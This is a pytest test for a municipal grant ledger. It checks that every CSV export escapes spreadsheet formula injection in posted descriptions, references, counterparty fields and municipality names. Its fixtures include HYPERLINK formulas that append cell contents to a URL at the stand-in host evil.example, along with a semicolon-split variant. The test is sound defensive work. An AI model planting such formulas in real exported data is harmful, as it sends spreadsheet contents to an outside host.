"""Spreadsheet formula injection (issue 16): what a municipality posts never runs as a formula where the
ministry opens a CSV, through HTTP, the real broker and the audit's replay.

A municipality posts expenditures whose description, reference, counterparty and reversal reason start
with each character OWASP lists (``=``, ``+``, ``-``, ``@``, tab, carriage return), and one with
``;=`` inside (Dutch Excel splits on ``;``); the ministry names the municipality with a formula. Every
CSV route of the ledger and every CSV export of the audit must show those texts behind an apostrophe
and quoted, while a negative amount (a reversal, an unspent balance) stays a plain, unquoted number.
"""

from __future__ import annotations

import csv
import io
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient

from contracts.topics import EXPENDITURES, GRANTS
from services.audit.exports import sisa_annex_csv
from services.audit.replay import replay_topics
from services.common.config import Settings, load_settings
from services.common.csv_output import unescape_cell
from services.common.domain.chained import recorded_envelope
from services.ledger.entrypoints.definition import create_app as create_ledger_app
from services.ledger.entrypoints.projector import build_runner
from services.payments.entrypoints.definition import create_app as create_payments_app
from tests.support.infra import KafkaInfo
from tests.support.kafka_topics import publish_all
from tests.support.spreadsheet import DANGEROUS, formula_cells
from tests.support.tokens import TokenFactory

A = "GM0363"
NAME = '=HYPERLINK("https://evil.example/?"&A1,"Amsterdam")'
SPLIT = 'Flyers;=HYPERLINK("https://evil.example/","klik")'
"""One cell in a ``,`` file, but a formula cell in a spreadsheet that splits it on ``;``."""


def one_line(c: str) -> str:
    """The character a one-line field (a name, an id, a reference) starts with instead of ``c``: TAB and CR
    are refused there by the text rule (contracts/text.py), so they are tried in the prose fields only."""
    return "@" if c in ("\t", "\r") else c


def hostile(c: str, what: str) -> str:
    return f'{c}HYPERLINK("https://evil.example/?{what}="&B2,"{what}")'


class Stack:
    def __init__(self, settings: Settings) -> None:
        self.settings = settings
        self.tokens = TokenFactory(settings)
        self.payments_app = create_payments_app(settings)
        self.ledger_app = create_ledger_app(settings)
        self.payments: FlaskClient = self.payments_app.test_client()
        self.ledger: FlaskClient = self.ledger_app.test_client()

    def publish(self) -> None:
        """Both relays publish what their services stored; returns once the projector applied all of it."""
        queries = self.ledger_app.extensions["ledger"].queries
        for application, topic in ((self.payments_app.extensions["payments.application"], GRANTS),
                                   (self.ledger_app.extensions["ledger"].application, EXPENDITURES)):
            publish_all(self.settings, application, topic)
            for stored in application.recorder.select_notifications(start=1, limit=10_000):
                queries.wait_for_event(recorded_envelope(application.mapper, stored)[1]["event_id"], 30_000)

    def post(self, client: FlaskClient, url: str, body: dict[str, Any], role: str, code: str | None = None) -> Any:
        response = client.post(url, json=body, headers=self.tokens.headers(role, code))
        assert response.status_code in (200, 201), response.json
        return response.json

    def csv(self, url: str, role: str = "ministry") -> str:
        response = self.ledger.get(url, headers=self.tokens.headers(role))
        assert response.status_code == 200 and response.mimetype == "text/csv", response.status_code
        return str(response.get_data(as_text=True))


@pytest.fixture
def stack(tmp_path: Path, kafka: KafkaInfo, topic_prefix: str) -> Iterator[Stack]:
    # One store is enough: the texts pass SQLite as PostgreSQL (tests/resilience/test_injection.py)
    settings = load_settings({
        "IDO_DATA_DIR": str(tmp_path / "data"), "IDO_KEYS_DIR": str(tmp_path / "keys"), "IDO_EVENT_STORE": "sqlite",
        **kafka.settings_env(), "IDO_TOPIC_PREFIX": topic_prefix, "IDO_READ_YOUR_WRITES_TIMEOUT_MS": "30000",
    })
    built = Stack(settings)
    runner = build_runner(settings)
    stop = threading.Event()
    projector = threading.Thread(target=runner.run_forever, args=(stop,), daemon=True)
    projector.start()
    try:
        yield built
    finally:
        stop.set()
        projector.join(timeout=10)
        runner.close()


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_texts_a_municipality_posts_reach_no_csv_as_a_formula(stack: Stack) -> None:
    s = stack
    # the grant, without an advance: the books spend more than was paid, so the unspent figure is negative
    assert s.payments.put("/v1/years/2024/frame", json={"frame_cents": 1_713_000_000, "decided_on": "2023-12-01"},
                          headers=s.tokens.headers("ministry")).status_code in (200, 201)
    s.post(s.payments, "/v1/years/2024/grants", {"municipality_code": A, "municipality_name": NAME,
                                                "amount_cents": 40_000_00, "awarded_on": "2024-01-15"}, "ministry")
    s.publish()

    posted: dict[str, str] = {}
    for n, c in enumerate((*DANGEROUS, ";")):
        text = SPLIT if c == ";" else hostile(c, "description")
        answer = s.post(s.ledger, f"/v1/municipalities/{A}/expenditures", {
            "grant_year": 2024, "category": "promotion", "amount_cents": 1_000 + n, "booked_on": "2024-03-01",
            "counterparty": {"id": f"{one_line(c)}id{n}", "name": hostile(one_line(c), "name") if c != ";" else SPLIT},
            "description": text, "reference": f"{one_line(c)}R{n}" if c != ";" else "R;=1+1",
        }, "municipality", A)
        posted[answer["expenditure_id"]] = c
        if c != ";":  # reversed, with a reason that starts the formula too: a negative amount in the journal
            s.post(s.ledger, f"/v1/municipalities/{A}/expenditures/{answer['expenditure_id']}/reversal",
                   {"reason": hostile(c, "reason"), "booked_on": "2024-03-02"}, "municipality", A)
    s.publish()

    journal = s.csv(f"/v1/municipalities/{A}/journal.csv")
    assert formula_cells(journal) == []  # read with ",", ";" or tabs
    rows = rows_of(journal)
    assert len(rows) == 2 * len(DANGEROUS) + 1
    for row in rows:
        c = posted[row["expenditure_id"]]
        texts = (row["description"], row["counterparty_name"], row["counterparty_id"], row["reference"])
        if c == ";":
            assert texts == ('Flyers;\'=HYPERLINK("https://evil.example/",\'"klik")', row["description"], ";id6",
                             "R;'=1+1"), row
            assert unescape_cell(row["description"]) == SPLIT
            continue
        n = DANGEROUS.index(c)
        what = "description" if row["event_type"] == "ExpenditureRecorded" else "reason"
        # each text behind an apostrophe, and nothing lost: dropping the apostrophes gives what was posted
        assert texts[0].startswith("'" + c) and all(text.startswith("'" + one_line(c)) for text in texts[1:]), row
        first = one_line(c)
        assert [unescape_cell(text) for text in texts] == [hostile(c, what), hostile(first, "name"), f"{first}id{n}",
                                                           f"{first}R{n}"], row
    reversals = [r for r in rows if r["event_type"] == "ExpenditureReversed"]
    assert sorted(int(r["amount_cents"]) for r in reversals) == [-(1_000 + n) for n in reversed(range(6))]
    # a negative amount is a plain number cell: unquoted in the file, after a quoted text cell
    assert all(re.search(rf'",{r["amount_cents"]},"', journal) for r in reversals), journal

    # every other CSV route: no formula cell; the unspent balance is negative and stays a number
    unspent = -(1_000 + len(DANGEROUS))
    balance = s.csv(f"/v1/municipalities/{A}/balances/2024.csv")
    assert rows_of(balance)[0]["unspent_cents"] == str(unspent) and f",{unspent}," in balance
    national = s.csv("/v1/balances/2024.csv")
    assert rows_of(national)[0]["unspent_cents"] == str(unspent) and f",{unspent}," in national
    sisa = s.csv(f"/v1/municipalities/{A}/sisa/2024.csv")
    for text in (journal, balance, national, sisa):
        assert formula_cells(text) == []

    # the audit's CSVs, from a replay of the topics: the municipality's name is text behind an apostrophe
    replay = replay_topics(s.settings)
    assert replay.stats.problems == []
    audit_balances = replay.balances_csv()
    annex = sisa_annex_csv(replay, 2024)
    named = [(unescape_cell(r["name"]), r["name"][:2], r["unspent_cents"]) for r in rows_of(audit_balances)]
    assert named == [(NAME, "'=", str(unspent))] and f",{unspent}," in audit_balances
    assert [(unescape_cell(r["municipality_name"]), r["municipality_name"][:2]) for r in rows_of(annex)] == [
        (NAME, "'=")
    ]
    for text in (audit_balances, annex):
        assert formula_cells(text) == []
